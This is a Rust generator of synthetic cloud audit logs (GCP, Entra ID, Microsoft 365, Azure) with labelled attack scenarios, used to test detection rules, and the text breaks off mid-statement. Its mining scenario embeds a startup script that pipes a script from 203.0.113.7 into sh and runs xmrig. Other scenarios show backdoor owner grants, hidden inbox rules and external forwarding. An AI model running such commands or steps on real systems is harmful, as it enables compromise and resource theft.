//! Generators of Google Cloud audit logs, Entra ID sign-in and audit logs, the
//! Microsoft 365 unified audit log and the Azure Activity log, built from the
//! documented schemas (Cloud Logging `LogEntry` with an `AuditLog` payload; Graph
//! `signIn` and `directoryAudit`; the Management Activity API common schema and its
//! Exchange admin schema; the Azure Activity log event schema), with injected attacks
//! and benign look-alikes, in each export format keytrail reads (owned by the detect
//! work).
//!
//! [`activity`] gives weeks of records for a small organisation (`corp.example`):
//! Google Cloud service accounts calling from Google Cloud addresses with keys, an
//! administrator from the office, Entra users signing in interactively from their
//! ISPs, a service principal signing in from Azure, mailbox and file activity, and
//! Azure Activity writes. Attacks (with [`Truth`]) and look-alikes are added on the
//! last days. [`write`] writes records in one [`Format`]. Everything comes from a
//! seed; key ids and tenant ids are generated, nothing is a real credential.

use std::fmt::Write as _;

use base64::Engine as _;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};

use crate::cloudtrail::format_time;

const HOUR: i64 = 3_600_000;
const DAY: i64 = 86_400_000;
const MIN: i64 = 60_000;

/// The organisation's domain.
pub const DOMAIN: &str = "corp.example";
/// The Google Cloud project.
pub const PROJECT: &str = "corp-prod-1";
/// The Entra tenant id.
pub const TENANT: &str = "6a3c2b10-0d1e-4f5a-9b8c-7d6e5f4a3b2c";
/// The Azure subscription id.
pub const SUBSCRIPTION: &str = "0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b";

/// The office's address (Comcast, US).
pub const OFFICE_IP: &str = "73.15.20.40";
/// A commercial VPN address (x4bnet VPN list).
pub const VPN_IP: &str = "37.0.12.231";
/// A Brazilian ISP address (an attacker's network).
pub const FOREIGN_IP: &str = "177.37.100.24";
/// The address a password spray comes from (a hosting network).
pub const SPRAY_IP: &str = "45.134.26.11";

/// One generated record with its provider.
#[derive(Debug, Clone)]
pub struct Record {
    /// `gcp`, `entra`, `m365` or `azure`.
    pub provider: &'static str,
    /// Event time (epoch ms).
    pub time_ms: i64,
    /// The record as its export writes it (Graph/Management API shape for Microsoft).
    pub json: Value,
}

/// An injected attack: the rule expected to fire and the principal it fires on.
#[derive(Debug, Clone)]
pub struct Attack {
    /// Expected rule id (`keytrail.gcp.…`).
    pub rule: &'static str,
    /// The principal (lower-case) the alert is about.
    pub principal: String,
    /// What was done.
    pub what: &'static str,
}

/// Ground truth of [`activity`].
#[derive(Debug, Clone, Default)]
pub struct Truth {
    /// Injected attacks.
    pub attacks: Vec<Attack>,
    /// Benign look-alikes: rule ids that must not fire on the principal.
    pub lookalikes: Vec<Attack>,
}

/// Export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// `gcloud logging read --format=json`: one pretty JSON array.
    GcloudJson,
    /// A Cloud Storage log sink: one `LogEntry` per line.
    GcpSinkNdjson,
    /// Pub/Sub push messages, one per line: `{"message":{"data":<base64 LogEntry>…}}`.
    PubSubNdjson,
    /// Graph API responses: `{"@odata.context":…,"value":[…]}` (Entra).
    GraphJson,
    /// Diagnostic-setting export to an Event Hub or storage: `{"records":[…]}` with
    /// the Graph record under `properties` (Entra, Azure Activity).
    DiagnosticRecords,
    /// Management Activity API content: one JSON array (Microsoft 365).
    ManagementApiJson,
    /// Purview / `Search-UnifiedAuditLog` CSV export with the record in `AuditData`.
    PurviewCsv,
}

fn uuid(rng: &mut StdRng) -> String {
    let b: [u8; 16] = rng.random();
    let h: String = b.iter().map(|x| format!("{x:02x}")).collect();
    format!(
        "{}-{}-4{}-8{}-{}",
        &h[0..8],
        &h[8..12],
        &h[13..16],
        &h[17..20],
        &h[20..32]
    )
}

fn hex(rng: &mut StdRng, n: usize) -> String {
    (0..n)
        .map(|_| char::from(b"0123456789abcdef"[rng.random_range(0..16)]))
        .collect()
}

/// A Google Cloud audit log entry (Admin Activity unless `data_access`).
#[allow(clippy::too_many_arguments)]
pub fn gcp_entry(
    rng: &mut StdRng,
    t: i64,
    principal: &str,
    key_id: Option<&str>,
    ip: &str,
    service: &str,
    method: &str,
    resource_name: &str,
    request: Value,
    response: Value,
    data_access: bool,
) -> Value {
    let log = if data_access {
        "data_access"
    } else {
        "activity"
    };
    let mut auth = json!({"principalEmail": principal});
    if let Some(k) = key_id {
        auth["serviceAccountKeyName"] = json!(format!(
            "//iam.googleapis.com/projects/{PROJECT}/serviceAccounts/{principal}/keys/{k}"
        ));
    }
    let mut payload = json!({
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "status": {},
        "authenticationInfo": auth,
        "requestMetadata": {
            "callerIp": ip,
            "callerSuppliedUserAgent": "google-cloud-sdk gcloud/460.0.0 command/gcloud.compute.instances.list,gzip(gfe)",
            "requestAttributes": {"time": format_time(t), "auth": {}},
            "destinationAttributes": {}
        },
        "serviceName": service,
        "methodName": method,
        "authorizationInfo": [{"resource": resource_name, "permission": "x", "granted": true, "resourceAttributes": {}}],
        "resourceName": resource_name,
    });
    if !request.is_null() {
        payload["request"] = request;
    }
    if !response.is_null() {
        payload["response"] = response;
    }
    json!({
        "protoPayload": payload,
        "insertId": hex(rng, 12),
        "resource": {"type": "gce_instance", "labels": {"project_id": PROJECT, "zone": "us-central1-a", "instance_id": hex(rng, 8)}},
        "timestamp": format_time(t),
        "severity": "NOTICE",
        "logName": format!("projects/{PROJECT}/logs/cloudaudit.googleapis.com%2F{log}"),
        "receiveTimestamp": format_time(t + 900),
    })
}

/// The Google Workspace customer id of the generated tenant.
pub const WORKSPACE_CUSTOMER: &str = "C03az79cb";

/// A Google Workspace activity as the Admin SDK Reports API returns it
/// (`activities.list` items): `app` is the application (`login`, `admin`),
/// `params` the event's parameters (`{"name","value"|"boolValue"|"multiValue"}`).
#[allow(clippy::too_many_arguments)]
pub fn workspace_activity(
    rng: &mut StdRng,
    t: i64,
    app: &str,
    actor: &str,
    ip: &str,
    event_type: &str,
    name: &str,
    params: &[(&str, Value)],
) -> Value {
    let parameters: Vec<Value> = params
        .iter()
        .map(|(n, v)| workspace_param(n, v, false))
        .collect();
    json!({
        "kind": "admin#reports#activity",
        "id": {
            "time": format_time(t).replace('Z', ".000Z"),
            "uniqueQualifier": format!("-{}", rng.random_range(1_000_000_000_000_000u64..9_000_000_000_000_000)),
            "applicationName": app,
            "customerId": WORKSPACE_CUSTOMER,
        },
        "etag": format!("\"{}\"", hex(rng, 27)),
        "actor": {"callerType": "USER", "email": actor, "profileId": rng.random_range(100_000_000_000_000_000_000u128..900_000_000_000_000_000_000).to_string()},
        "ipAddress": ip,
        "events": [{"type": event_type, "name": name, "parameters": parameters}],
    })
}

/// One event parameter as the Reports API (`boolValue`, `multiValue`,
/// `intValue`, `value`) or Cloud Logging (with its `type`, `multiStrValue`)
/// writes it.
fn workspace_param(name: &str, v: &Value, cloud_logging: bool) -> Value {
    let (member, kind) = match v {
        Value::Bool(_) => ("boolValue", "TYPE_BOOL"),
        Value::Array(_) if cloud_logging => ("multiStrValue", "TYPE_STRING"),
        Value::Array(_) => ("multiValue", "TYPE_STRING"),
        Value::Number(_) => ("intValue", "TYPE_INT"),
        _ => ("value", "TYPE_STRING"),
    };
    let value = match v {
        Value::Number(n) => json!(n.to_string()),
        v => v.clone(),
    };
    let mut p = json!({"name": name, member: value});
    if cloud_logging {
        p["type"] = json!(kind);
    }
    p
}

/// The same activity as Google Workspace shares it with Cloud Logging: an audit log
/// entry of `<app>.googleapis.com` whose `metadata.event` holds the event.
#[allow(clippy::too_many_arguments)]
pub fn workspace_log_entry(
    rng: &mut StdRng,
    t: i64,
    app: &str,
    actor: &str,
    ip: &str,
    event_type: &str,
    name: &str,
    params: &[(&str, Value)],
) -> Value {
    // `login_failure` → `loginFailure`, `CHANGE_APPLICATION_SETTING` →
    // `changeApplicationSetting`.
    let mut method = String::new();
    for (i, w) in name.split('_').enumerate() {
        let w = w.to_ascii_lowercase();
        if i == 0 {
            method.push_str(&w);
        } else if let Some(c) = w.chars().next() {
            method.push(c.to_ascii_uppercase());
            method.push_str(&w[1..]);
        }
    }
    let service = format!("{app}.googleapis.com");
    let class = format!("{}{}Service", app[..1].to_ascii_uppercase(), &app[1..]);
    let parameter: Vec<Value> = params
        .iter()
        .map(|(n, v)| workspace_param(n, v, true))
        .collect();
    json!({
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": actor},
            "requestMetadata": {"callerIp": ip, "requestAttributes": {}, "destinationAttributes": {}},
            "serviceName": service,
            "methodName": format!("google.{app}.{class}.{method}"),
            "resourceName": format!("organizations/123456789012/{app}"),
            "metadata": {
                "@type": "type.googleapis.com/ccc_hosted_reporting.ActivityProto",
                "activityId": {"timeUsec": (t * 1000).to_string(), "uniqQualifier": hex(rng, 16)},
                "event": [{"eventType": event_type, "eventName": name, "parameter": parameter}],
            },
        },
        "insertId": hex(rng, 12),
        "resource": {"type": "audited_resource", "labels": {"service": service, "method": format!("google.{app}.{class}.{method}")}},
        "timestamp": format_time(t),
        "severity": "NOTICE",
        "logName": "organizations/123456789012/logs/cloudaudit.googleapis.com%2Fdata_access",
        "receiveTimestamp": format_time(t + 900),
    })
}

/// An Entra ID sign-in as Graph returns it (`auditLogs/signIns`, beta for service
/// principals).
pub fn entra_sign_in(
    rng: &mut StdRng,
    t: i64,
    user: Option<&str>,
    sp: Option<(&str, &str, &str)>,
    ip: &str,
    country: &str,
    risk: &str,
) -> Value {
    let mut v = json!({
        "id": uuid(rng),
        "createdDateTime": format_time(t),
        "appId": "00000002-0000-0ff1-ce00-000000000000",
        "appDisplayName": "Office 365 Exchange Online",
        "ipAddress": ip,
        "clientAppUsed": "Browser",
        "correlationId": uuid(rng),
        "conditionalAccessStatus": "success",
        "isInteractive": true,
        "riskDetail": "none",
        "riskLevelAggregated": "none",
        "riskLevelDuringSignIn": risk,
        "riskState": if risk == "none" { "none" } else { "atRisk" },
        "riskEventTypes_v2": [],
        "resourceDisplayName": "Office 365 Exchange Online",
        "resourceId": "00000002-0000-0ff1-ce00-000000000000",
        "status": {"errorCode": 0, "failureReason": "Other.", "additionalDetails": null},
        "deviceDetail": {"deviceId": uuid(rng), "displayName": "LAPTOP-1", "operatingSystem": "Windows10", "browser": "Edge 120.0.0", "isCompliant": true, "isManaged": true, "trustType": "Azure AD joined"},
        "location": {"city": "Seattle", "state": "Washington", "countryOrRegion": country, "geoCoordinates": {}},
        "appliedConditionalAccessPolicies": [],
        "userAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
    });
    if let Some(u) = user {
        v["userPrincipalName"] = json!(u);
        v["userDisplayName"] = json!(u.split('@').next().unwrap_or(u));
        v["userId"] = json!(uuid(rng));
    }
    if let Some((sp_id, name, key)) = sp {
        v["servicePrincipalId"] = json!(sp_id);
        v["servicePrincipalName"] = json!(name);
        v["appDisplayName"] = json!(name);
        v["servicePrincipalCredentialKeyId"] = json!(key);
        v["isInteractive"] = json!(false);
        v["signInEventTypes"] = json!(["servicePrincipal"]);
        v["clientAppUsed"] = json!("");
        v["userAgent"] = json!("");
    }
    v
}

/// An Entra ID sign-in that failed with `code` (AADSTS error code), as Graph
/// returns it: 50126 is a wrong password, 50076 a right one stopped by MFA.
pub fn entra_failed_sign_in(
    rng: &mut StdRng,
    t: i64,
    user: &str,
    ip: &str,
    country: &str,
    code: u32,
) -> Value {
    let mut v = entra_sign_in(rng, t, Some(user), None, ip, country, "none");
    let reason = match code {
        50126 => "Error validating credentials due to invalid username or password.",
        50076 => {
            "Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication to access."
        }
        _ => "Other.",
    };
    v["status"] = json!({"errorCode": code, "failureReason": reason, "additionalDetails": null});
    v["conditionalAccessStatus"] = json!("notApplied");
    v
}

/// An Entra ID directory audit of a role assignment (`Add member to role`), as
/// Graph returns it: the member is the target, the role is in its modified
/// properties.
pub fn entra_role_added(
    rng: &mut StdRng,
    t: i64,
    actor: &str,
    ip: &str,
    member: &str,
    role: &str,
) -> Value {
    let role_id = uuid(rng);
    let member_id = uuid(rng);
    entra_audit(
        rng,
        t,
        actor,
        ip,
        "Add member to role",
        "RoleManagement",
        json!({"id": member_id, "displayName": null, "userPrincipalName": member, "type": "User", "modifiedProperties": [
            {"displayName": "Role.ObjectID", "oldValue": null, "newValue": format!("\"{role_id}\"")},
            {"displayName": "Role.DisplayName", "oldValue": null, "newValue": format!("\"{role}\"")},
            {"displayName": "Role.TemplateId", "oldValue": null, "newValue": format!("\"{role_id}\"")},
        ]}),
    )
}

/// An Entra ID directory audit as Graph returns it (`auditLogs/directoryAudits`).
pub fn entra_audit(
    rng: &mut StdRng,
    t: i64,
    actor: &str,
    ip: &str,
    activity: &str,
    category: &str,
    target: Value,
) -> Value {
    json!({
        "id": format!("Directory_{}", uuid(rng)),
        "category": category,
        "correlationId": uuid(rng),
        "result": "success",
        "resultReason": "",
        "activityDisplayName": activity,
        "activityDateTime": format_time(t),
        "loggedByService": "Core Directory",
        "operationType": "Add",
        "initiatedBy": {"app": null, "user": {"id": uuid(rng), "displayName": null, "userPrincipalName": actor, "ipAddress": ip, "userType": null}},
        "targetResources": [target],
        "additionalDetails": [{"key": "User-Agent", "value": "Mozilla/5.0"}],
    })
}

/// A Microsoft 365 unified audit log record (Management Activity API common schema).
#[allow(clippy::too_many_arguments)]
pub fn m365_record(
    rng: &mut StdRng,
    t: i64,
    user: &str,
    ip: &str,
    workload: &str,
    record_type: u32,
    operation: &str,
    params: &[(&str, &str)],
) -> Value {
    let mut v = json!({
        "CreationTime": format_time(t).trim_end_matches('Z'),
        "Id": uuid(rng),
        "Operation": operation,
        "OrganizationId": TENANT,
        "RecordType": record_type,
        "ResultStatus": "True",
        "UserKey": format!("1003{}", hex(rng, 12).to_ascii_uppercase()),
        "UserType": 0,
        "Version": 1,
        "Workload": workload,
        "ClientIP": format!("{ip}:{}", rng.random_range(40000..60000)),
        "UserId": user,
    });
    if !params.is_empty() {
        v["Parameters"] = json!(
            params
                .iter()
                .map(|(n, val)| json!({"Name": n, "Value": val}))
                .collect::<Vec<_>>()
        );
        v["ObjectId"] = json!(user);
        v["AppId"] = json!("");
        v["ExternalAccess"] = json!(false);
    }
    v
}

/// An Azure Activity log record as the REST API and `az monitor activity-log list`
/// return it.
pub fn azure_activity(rng: &mut StdRng, t: i64, caller: &str, ip: &str, op: &str) -> Value {
    let provider = op.split('/').next().unwrap_or(op);
    json!({
        "authorization": {"action": op, "scope": format!("/subscriptions/{SUBSCRIPTION}/resourceGroups/rg1")},
        "caller": caller,
        "channels": "Operation",
        "claims": {"ipaddr": ip, "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": caller},
        "correlationId": uuid(rng),
        "eventDataId": uuid(rng),
        "eventName": {"value": "EndRequest", "localizedValue": "End request"},
        "category": {"value": "Administrative", "localizedValue": "Administrative"},
        "eventTimestamp": format_time(t),
        "httpRequest": {"clientRequestId": uuid(rng), "clientIpAddress": ip, "method": "PUT"},
        "level": "Informational",
        "operationName": {"value": op, "localizedValue": op},
        "resourceGroupName": "rg1",
        "resourceProviderName": {"value": provider, "localizedValue": provider},
        "resourceId": format!("/subscriptions/{SUBSCRIPTION}/resourceGroups/rg1/providers/{provider}/x/y"),
        "status": {"value": "Succeeded", "localizedValue": "Succeeded"},
        "subscriptionId": SUBSCRIPTION,
        "tenantId": TENANT,
    })
}

fn rec(provider: &'static str, time_ms: i64, json: Value) -> Record {
    Record {
        provider,
        time_ms,
        json,
    }
}

/// Weeks of activity of the organisation, then attacks and look-alikes on the last
/// two days. `scale` multiplies the routine rates (1.0: about 1,500 records a day).
pub fn activity(seed: u64, start_ms: i64, days: u32, scale: f64) -> (Vec<Record>, Truth) {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = Vec::new();
    let mut truth = Truth::default();
    let apps = [
        format!("app-backend@{PROJECT}.iam.gserviceaccount.com"),
        format!("etl@{PROJECT}.iam.gserviceaccount.com"),
    ];
    let keys: Vec<String> = apps.iter().map(|_| hex(&mut rng, 40)).collect();
    let admin = format!("admin@{DOMAIN}");
    let users: Vec<String> = ["alice", "bob", "carol", "dan"]
        .iter()
        .map(|u| format!("{u}@{DOMAIN}"))
        .collect();
    let sp_id = uuid(&mut rng);
    let sp_key = uuid(&mut rng);
    let sp_name = "billing-sync";
    let home_ips = ["73.15.21.10", "73.15.22.11", "73.15.23.12", "73.15.24.13"];
    let per_hour = |base: f64, rng: &mut StdRng| -> usize {
        let x = base * scale;
        x.floor() as usize + usize::from(rng.random::<f64>() < x.fract())
    };
    for d in 0..i64::from(days) {
        for h in 0..24 {
            let hs = start_ms + d * DAY + h * HOUR;
            // Service accounts: steady calls from Google Cloud addresses with their keys.
            for (i, sa) in apps.iter().enumerate() {
                for _ in 0..per_hour(12.0, &mut rng) {
                    let t = hs + rng.random_range(0..HOUR);
                    let ip = format!("34.72.{}.{}", 10 + i, rng.random_range(2..250));
                    let (svc, m) = [
                        ("storage.googleapis.com", "storage.objects.get"),
                        ("storage.googleapis.com", "storage.objects.create"),
                        (
                            "bigquery.googleapis.com",
                            "google.cloud.bigquery.v2.JobService.InsertJob",
                        ),
                        (
                            "pubsub.googleapis.com",
                            "google.pubsub.v1.Publisher.Publish",
                        ),
                    ][rng.random_range(0..4)];
                    out.push(rec(
                        "gcp",
                        t,
                        gcp_entry(
                            &mut rng,
                            t,
                            sa,
                            Some(&keys[i]),
                            &ip,
                            svc,
                            m,
                            &format!("projects/_/buckets/{PROJECT}-data"),
                            Value::Null,
                            Value::Null,
                            true,
                        ),
                    ));
                }
            }
            let work = (8..18).contains(&h) && d % 7 < 5;
            // The administrator, from the office in working hours.
            if work && rng.random::<f64>() < 0.5 * scale.min(2.0) {
                let t = hs + rng.random_range(0..HOUR);
                let name = format!(
                    "projects/{PROJECT}/zones/us-central1-a/instances/web-{}",
                    hex(&mut rng, 4)
                );
                out.push(rec(
                    "gcp",
                    t,
                    gcp_entry(&mut rng, t, &admin, None, OFFICE_IP, "compute.googleapis.com", "v1.compute.instances.insert", &name, json!({"@type": "type.googleapis.com/compute.instances.insert", "machineType": format!("projects/{PROJECT}/zones/us-central1-a/machineTypes/e2-standard-4"), "disks": [{"initializeParams": {"sourceImage": "projects/debian-cloud/global/images/debian-12-bookworm-v20240110"}}]}), Value::Null, false),
                ));
            }
            // People: sign-ins and mail.
            for (i, u) in users.iter().enumerate() {
                if !work {
                    continue;
                }
                let ip = if h < 10 { home_ips[i] } else { OFFICE_IP };
                for _ in 0..per_hour(0.6, &mut rng) {
                    let t = hs + rng.random_range(0..HOUR);
                    out.push(rec(
                        "entra",
                        t,
                        entra_sign_in(&mut rng, t, Some(u), None, ip, "US", "none"),
                    ));
                }
                // A mistyped password now and then, then the right one.
                if rng.random::<f64>() < 0.04 {
                    let t = hs + rng.random_range(0..HOUR - MIN);
                    out.push(rec(
                        "entra",
                        t,
                        entra_failed_sign_in(&mut rng, t, u, ip, "US", 50126),
                    ));
                    let t = t + rng.random_range(5_000..MIN);
                    out.push(rec(
                        "entra",
                        t,
                        entra_sign_in(&mut rng, t, Some(u), None, ip, "US", "none"),
                    ));
                }
                for _ in 0..per_hour(3.0, &mut rng) {
                    let t = hs + rng.random_range(0..HOUR);
                    let (wl, rt, op) = [
                        ("Exchange", 2, "MailItemsAccessed"),
                        ("Exchange", 2, "Send"),
                        ("SharePoint", 6, "FileAccessed"),
                        ("OneDrive", 6, "FileModified"),
                    ][rng.random_range(0..4)];
                    out.push(rec(
                        "m365",
                        t,
                        m365_record(&mut rng, t, u, ip, wl, rt, op, &[]),
                    ));
                }
            }
            // The billing service principal, from Azure, about twice an hour.
            for _ in 0..per_hour(2.0, &mut rng).max(1) {
                let t = hs + rng.random_range(0..HOUR);
                let ip = format!(
                    "20.42.{}.{}",
                    rng.random_range(1..4),
                    rng.random_range(2..250)
                );
                out.push(rec(
                    "entra",
                    t,
                    entra_sign_in(
                        &mut rng,
                        t,
                        None,
                        Some((&sp_id, sp_name, &sp_key)),
                        &ip,
                        "US",
                        "none",
                    ),
                ));
            }
            // Azure Activity: deployments by the administrator.
            for _ in 0..if work { per_hour(0.4, &mut rng) } else { 0 } {
                let t = hs + rng.random_range(0..HOUR);
                out.push(rec(
                    "azure",
                    t,
                    azure_activity(&mut rng, t, &admin, OFFICE_IP, "Microsoft.Web/sites/write"),
                ));
            }
        }
    }
    let end = start_ms + i64::from(days) * DAY;
    let day1 = end - 2 * DAY + 10 * HOUR;
    let day2 = end - DAY + 11 * HOUR;
    let mut attack = |rule: &'static str, principal: &str, what: &'static str| {
        truth.attacks.push(Attack {
            rule,
            principal: principal.to_ascii_lowercase(),
            what,
        });
    };
    // 1. A stolen service-account key used through a VPN.
    for k in 0..5 {
        let t = day1 + k * MIN;
        out.push(rec(
            "gcp",
            t,
            gcp_entry(
                &mut rng,
                t,
                &apps[0],
                Some(&keys[0]),
                VPN_IP,
                "storage.googleapis.com",
                "storage.buckets.list",
                &format!("projects/{PROJECT}"),
                Value::Null,
                Value::Null,
                true,
            ),
        ));
    }
    attack(
        "keytrail.gcp.initial-access.service-account-key-anonymous-network",
        &apps[0],
        "stolen key used through a VPN",
    );
    // 2. The attacker makes a key of its own for the ETL account, then uses it from abroad.
    let new_key = hex(&mut rng, 40);
    let t = day1 + 10 * MIN;
    out.push(rec("gcp", t, gcp_entry(&mut rng, t, &apps[0], Some(&keys[0]), VPN_IP, "iam.googleapis.com", "google.iam.admin.v1.CreateServiceAccountKey", &format!("projects/-/serviceAccounts/{}", apps[1]), json!({"name": format!("projects/-/serviceAccounts/{}", apps[1]), "private_key_type": 0, "@type": "type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest"}), json!({"name": format!("projects/{PROJECT}/serviceAccounts/{}/keys/{new_key}", apps[1]), "valid_after_time": {}, "@type": "type.googleapis.com/google.iam.admin.v1.ServiceAccountKey"}), false)));
    attack(
        "keytrail.gcp.persistence.service-account-key-created",
        &apps[0],
        "new service-account key",
    );
    let t = day1 + 40 * MIN;
    out.push(rec(
        "gcp",
        t,
        gcp_entry(
            &mut rng,
            t,
            &apps[1],
            Some(&new_key),
            FOREIGN_IP,
            "storage.googleapis.com",
            "storage.objects.list",
            &format!("projects/_/buckets/{PROJECT}-data"),
            Value::Null,
            Value::Null,
            true,
        ),
    ));
    attack(
        "keytrail.gcp.behaviour.new-key-different-network",
        &apps[1],
        "new key first used from another network",
    );
    // 3. GPU instances and owner for an outside account.
    let t = day1 + 50 * MIN;
    out.push(rec("gcp", t, gcp_entry(&mut rng, t, &apps[0], Some(&keys[0]), VPN_IP, "compute.googleapis.com", "v1.compute.instances.insert", &format!("projects/{PROJECT}/zones/us-central1-a/instances/x1"), json!({"machineType": format!("projects/{PROJECT}/zones/us-central1-a/machineTypes/a2-highgpu-8g"), "guestAccelerators": [{"acceleratorType": "nvidia-tesla-a100", "acceleratorCount": 8}], "metadata": {"items": [{"key": "startup-script", "value": "curl -sL http://203.0.113.7/x.sh | sh; ./xmrig -o stratus:3333"}]}}), Value::Null, false)));
    attack(
        "keytrail.gcp.impact.compute-mining-instances",
        &apps[0],
        "GPU instance with a miner",
    );
    let t = day1 + 55 * MIN;
    let mut e = gcp_entry(
        &mut rng,
        t,
        &apps[0],
        Some(&keys[0]),
        VPN_IP,
        "cloudresourcemanager.googleapis.com",
        "SetIamPolicy",
        &format!("projects/{PROJECT}"),
        json!({"@type": "type.googleapis.com/google.iam.v1.SetIamPolicyRequest", "resource": PROJECT}),
        Value::Null,
        false,
    );
    e["protoPayload"]["serviceData"] = json!({"@type": "type.googleapis.com/google.iam.v1.logging.AuditData", "policyDelta": {"bindingDeltas": [{"action": "ADD", "role": "roles/owner", "member": "user:backdoor.ops@gmail.com"}]}});
    out.push(rec("gcp", t, e));
    attack(
        "keytrail.gcp.persistence.owner-or-editor-granted-outside",
        &apps[0],
        "owner granted to a gmail account",
    );
    // Look-alike: the administrator grants viewer to a consultant and editor to a colleague.
    let t = day1 + 2 * HOUR;
    let mut e = gcp_entry(
        &mut rng,
        t,
        &admin,
        None,
        OFFICE_IP,
        "cloudresourcemanager.googleapis.com",
        "SetIamPolicy",
        &format!("projects/{PROJECT}"),
        Value::Null,
        Value::Null,
        false,
    );
    e["protoPayload"]["serviceData"] = json!({"policyDelta": {"bindingDeltas": [{"action": "ADD", "role": "roles/viewer", "member": "user:consultant@gmail.com"}, {"action": "ADD", "role": "roles/editor", "member": format!("user:erin@{DOMAIN}")}]}});
    out.push(rec("gcp", t, e));
    truth.lookalikes.push(Attack {
        rule: "keytrail.gcp.persistence.owner-or-editor-granted-outside",
        principal: admin.clone(),
        what: "viewer outside, editor inside",
    });

    // 4. Alice is phished (AiTM): a risky sign-in from abroad, consent to eM Client,
    // an inbox rule hiding IT's warnings, forwarding, internal phishing.
    let alice = &users[0];
    let t = day2;
    out.push(rec(
        "entra",
        t,
        entra_sign_in(&mut rng, t, Some(alice), None, FOREIGN_IP, "BR", "high"),
    ));
    let t = day2 + 5 * MIN;
    let app_id = uuid(&mut rng);
    out.push(rec("entra", t, entra_audit(&mut rng, t, alice, FOREIGN_IP, "Consent to application", "ApplicationManagement", json!({"id": app_id, "displayName": "eM Client", "type": "ServicePrincipal", "modifiedProperties": [{"displayName": "ConsentContext.IsAdminConsent", "oldValue": null, "newValue": "\"False\""}, {"displayName": "ConsentAction.Permissions", "oldValue": null, "newValue": "\"[] => [[Id: x, ClientId: e9a7fea1-1cc0-4cd9-a31b-9137ca5deedd, PrincipalId: y, ResourceId: z, ConsentType: Principal, Scope: EWS.AccessAsUser.All offline_access email openid]]\""}]}))));
    attack(
        "keytrail.entra.initial-access.risky-oauth-consent",
        alice,
        "consent to eM Client",
    );
    let t = day2 + 8 * MIN;
    out.push(rec(
        "m365",
        t,
        m365_record(
            &mut rng,
            t,
            alice,
            FOREIGN_IP,
            "Exchange",
            1,
            "New-InboxRule",
            &[
                ("Identity", "alice"),
                ("Name", "."),
                ("From", "itsupport@corp.example"),
                ("SubjectOrBodyContainsWords", "suspicious;password;hacked"),
                ("MoveToFolder", "RSS Feeds"),
                ("MarkAsRead", "True"),
                ("StopProcessingRules", "True"),
            ],
        ),
    ));
    attack(
        "keytrail.m365.defense-evasion.inbox-rule-hides-mail",
        alice,
        "inbox rule hiding IT support mail",
    );
    let t = day2 + 9 * MIN;
    out.push(rec(
        "m365",
        t,
        m365_record(
            &mut rng,
            t,
            alice,
            FOREIGN_IP,
            "Exchange",
            1,
            "Set-Mailbox",
            &[
                ("Identity", "alice"),
                ("ForwardingSmtpAddress", "smtp:drop.box@protonmail.example"),
                ("DeliverToMailboxAndForward", "True"),
            ],
        ),
    ));
    attack(
        "keytrail.m365.collection.mailbox-permission-or-forwarding",
        alice,
        "forwarding outside",
    );
    for k in 0..30 {
        let t = day2 + 12 * MIN + k * 15_000;
        out.push(rec(
            "m365",
            t,
            m365_record(&mut rng, t, alice, FOREIGN_IP, "Exchange", 2, "Send", &[]),
        ));
    }
    attack(
        "keytrail.m365.lateral-movement.burst-after-risky-sign-in",
        alice,
        "internal phishing burst",
    );
    // Look-alikes: Bob files newsletters (no hiding), Carol consents to a harmless app.
    let t = day2 + 3 * HOUR;
    out.push(rec(
        "m365",
        t,
        m365_record(
            &mut rng,
            t,
            &users[1],
            OFFICE_IP,
            "Exchange",
            1,
            "New-InboxRule",
            &[
                ("Name", "Newsletters"),
                ("From", "news@vendor.example"),
                ("ApplyCategory", "Newsletter"),
            ],
        ),
    ));
    truth.lookalikes.push(Attack {
        rule: "keytrail.m365.defense-evasion.inbox-rule-hides-mail",
        principal: users[1].clone(),
        what: "categorise newsletters",
    });
    let t = day2 + 3 * HOUR + MIN;
    let app_id = uuid(&mut rng);
    out.push(rec("entra", t, entra_audit(&mut rng, t, &users[2], OFFICE_IP, "Consent to application", "ApplicationManagement", json!({"id": app_id, "displayName": "Calendar Helper", "type": "ServicePrincipal", "modifiedProperties": [{"displayName": "ConsentAction.Permissions", "oldValue": null, "newValue": "\"[[Scope: User.Read openid profile]]\""}]}))));
    truth.lookalikes.push(Attack {
        rule: "keytrail.entra.initial-access.risky-oauth-consent",
        principal: users[2].clone(),
        what: "User.Read consent",
    });
    // 5. Tenant consent loosened, and a secret added to the billing app then used
    // from a new network.
    let t = day2 + 20 * MIN;
    out.push(rec("entra", t, entra_audit(&mut rng, t, alice, FOREIGN_IP, "Update authorization policy", "Policy", json!({"id": "authorizationPolicy", "displayName": "Authorization Policy", "type": "Policy", "modifiedProperties": [{"displayName": "PermissionGrantPolicyIdsAssignedToDefaultUserRole", "oldValue": "[]", "newValue": "[\"ManagePermissionGrantsForSelf.microsoft-user-default-legacy\"]"}]}))));
    attack(
        "keytrail.entra.defense-evasion.user-consent-loosened",
        alice,
        "user consent allowed",
    );
    let new_sp_key = uuid(&mut rng);
    let t = day2 + 25 * MIN;
    out.push(rec("entra", t, entra_audit(&mut rng, t, alice, FOREIGN_IP, "Add service principal credentials", "ApplicationManagement", json!({"id": sp_id, "displayName": sp_name, "type": "ServicePrincipal", "modifiedProperties": [{"displayName": "KeyDescription", "oldValue": "[]", "newValue": format!("[\"[KeyIdentifier={new_sp_key},KeyType=Password,KeyUsage=Verify,DisplayName=backup]\"]")}, {"displayName": "Included Updated Properties", "oldValue": null, "newValue": "\"KeyDescription\""}]}))));
    attack(
        "keytrail.entra.persistence.application-credential-added",
        alice,
        "secret added to a service principal",
    );
    let t = day2 + 50 * MIN;
    out.push(rec(
        "entra",
        t,
        entra_sign_in(
            &mut rng,
            t,
            None,
            Some((&sp_id, sp_name, &new_sp_key)),
            VPN_IP,
            "NL",
            "none",
        ),
    ));
    attack(
